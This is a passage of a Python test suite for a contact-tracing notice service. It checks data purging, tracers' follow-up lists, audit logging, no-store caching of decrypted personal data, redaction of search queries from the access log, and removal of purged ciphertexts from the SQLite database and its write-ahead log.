            (pid, today.isoformat(), "symptomatic")
        ], who
    assert client.get(listing, headers=parties["tha_fp"].headers).status_code == 404


def test_persons_sent_before_follow_up_periods_go_with_their_notice(client, db, parties):
    """Rows from before migration 0012 have no follow_up_until: the notice's
    purge_after (sending + 14 days) still applies to them."""
    from eocnet.actions import tracing

    nid = _send(client, parties)["id"]
    with db.transaction() as s:
        notice = s.get(TracingNotice, nid)
        for person in notice.persons:
            person.follow_up_until = None
        notice.purge_after = notice.created_at + timedelta(days=14)
        deadline = notice.purge_after
    early = db.run_sync(tracing.purge, deadline - timedelta(seconds=1))
    assert (early.notices, early.persons) == ([], 0)
    done = db.run_sync(tracing.purge, deadline)
    assert (done.notices, done.persons, done.emptied) == ([nid], 2, [nid])
    assert _readable(client, parties, nid) == []


def test_the_due_list_of_each_tracer(client, db, parties, make_person):
    today = datetime.now(UTC).date()
    persons = [
        {**_persons()[0], "last_exposure": today.isoformat(), "disease": "measles"},
        {**_persons()[1], "last_exposure": today.isoformat(), "disease": "pneumonic plague"},
    ]
    r = client.post(
        "/api/v1/tracing-notices",
        headers=parties["idn_fp"].headers,
        json={"event_id": parties["event_id"], "parties": ["KHM"], "persons": persons},
    )
    nid = r.json()["id"]
    a, b = (s["id"] for s in r.json()["statuses"])
    tracer = make_person("KHM", "officer")
    client.post(
        f"/api/v1/tracing-notices/{nid}/persons/{a}/assign",
        headers=parties["khm_fp"].headers,
        json={"tracer_id": tracer.id},
    )
    due = client.get("/api/v1/tracing/due", headers=tracer.headers).json()
    assert [(d["id"], d["full_name"], d["today"], d["days_left"]) for d in due] == [
        (a, NAMES[0], None, 21)
    ]
    # the focal point sees the party's whole list, soonest end first
    due = client.get("/api/v1/tracing/due", headers=parties["khm_fp"].headers).json()
    assert [d["id"] for d in due] == [b, a] and due[0]["phone"] == PHONES[1]
    client.post(
        f"/api/v1/tracing-notices/{nid}/persons/{a}/follow-up",
        headers=tracer.headers,
        json={"status": "completed"},
    )
    due = client.get("/api/v1/tracing/due", headers=tracer.headers).json()
    assert [(d["id"], d["today"]) for d in due] == [(a, "completed")]  # shown on the day
    tomorrow = (today + timedelta(days=1)).isoformat()
    assert client.get(f"/api/v1/tracing/due?day={tomorrow}", headers=tracer.headers).json() == []
    # after plague's 7 days, the other person is no longer due
    later = (today + timedelta(days=8)).isoformat()
    assert (
        client.get(f"/api/v1/tracing/due?day={later}", headers=parties["khm_fp"].headers).json()
        == []
    )
    # the sender and other parties have nobody to follow up
    for who in ("idn_fp", "tha_fp", "coordinator"):
        assert client.get("/api/v1/tracing/due", headers=parties[who].headers).json() == [], who
    with db.read() as s:
        reads = (
            s.execute(select(AuditEntry).where(AuditEntry.action == "tracing.read_persons"))
            .scalars()
            .all()
        )
    assert [json.loads(e.details)["persons"] for e in reads][1:] == [[a], [a, b], [a]]


def test_personal_data_is_never_cached_and_searches_stay_out_of_the_access_log(
    client, parties, caplog
):
    """Answers showing decrypted persons carry Cache-Control: no-store (API, export,
    pages); the access log keeps the path of a search, not what was searched."""
    import logging
    import re

    import pyotp

    from tests.web_helpers import csrf_of, login

    notice = _send(client, parties)
    nid = notice["id"]
    khm_fp = parties["khm_fp"]
    for path in (
        f"/api/v1/tracing-notices/{nid}",
        "/api/v1/tracing-notices",
        f"/api/v1/tracing-notices/{nid}/export.csv",
        f"/api/v1/search?q={NAMES[0].split()[0]}",
    ):
        r = client.get(path, headers=khm_fp.headers)
        assert r.status_code == 200, path
        assert r.headers["cache-control"] == "no-store", path
    assert NAMES[0] in client.get(f"/api/v1/tracing-notices/{nid}", headers=khm_fp.headers).text
    # not those who see no persons either: 404 for an outsider, and not cacheable
    r = client.get(f"/api/v1/tracing-notices/{nid}", headers=parties["tha_fp"].headers)
    assert r.status_code == 404 and r.headers["cache-control"] == "no-store"
    assert "no-store" not in client.get("/api/v1/events", headers=khm_fp.headers).headers.get(
        "cache-control", ""
    )
    client.cookies.clear()
    login(client, khm_fp.email, khm_fp.password)
    page = client.get("/account/2fa")
    secret = re.search(r'id="totp-secret">([A-Z2-7]+)<', page.text).group(1)
    client.post(
        "/account/2fa", data={"code": pyotp.TOTP(secret).now(), "csrf_token": csrf_of(page.text)}
    )
    for path in (f"/tracing/{nid}", f"/tracing/{nid}/people"):
        page = client.get(path)
        assert page.status_code == 200 and NAMES[0] in page.text, path
        assert page.headers["cache-control"] == "no-store", path

    # uvicorn's access logger, called as uvicorn calls it
    with caplog.at_level(logging.INFO, logger="uvicorn.access"):
        logging.getLogger("uvicorn.access").info(
            '%s - "%s %s HTTP/%s" %d',
            "127.0.0.1:50000",
            "GET",
            f"/api/v1/search?q={NAMES[0]}&kind=event",
            "1.1",
            200,
        )
    assert '"GET /api/v1/search?… HTTP/1.1" 200' in caplog.text
    assert NAMES[0] not in caplog.text and NAMES[0].split()[0] not in caplog.text


_SCAN_HEX = """
import sys
from pathlib import Path
path, needles = Path(sys.argv[1]), [bytes.fromhex(n) for n in sys.argv[2:]]
for f in (path, Path(f"{path}-wal")):
    if f.exists():
        blob = f.read_bytes()
        print(" ".join(f"{f.name}:{n.hex()[:8]}" for n in needles if n in blob))
"""


def test_purged_keys_and_ciphertexts_leave_the_database_files_at_once(
    client, db, parties, database_url
):
    """After a purge (by the API, the job or the CLI) the wrapped key and the sealed
    persons are in neither the SQLite database file nor its write-ahead log."""
    notice = _send(client, parties)
    with db.read() as s:
        row = s.get(TracingNotice, notice["id"])
        needles = [row.wrapped_key[:32], *(p.sealed[:32] for p in row.persons)]
    r = client.post(
        f"/api/v1/tracing-notices/{notice['id']}/purge", headers=parties["khm_fp"].headers
    )
    assert r.status_code == 204
    with db.read() as s:
        row = s.get(TracingNotice, notice["id"])
        assert row.wrapped_key is None and all(p.sealed is None for p in row.persons)
    if not db.is_sqlite:
        return
    path = Path(database_url.split("///", 1)[1])
    found = subprocess.run(  # another process: see test_no_plaintext_at_rest
        [sys.executable, "-c", _SCAN_HEX, str(path), *[n.hex() for n in needles]],
        capture_output=True,
        text=True,
        check=True,
    ).stdout.split()
    assert found == [], found
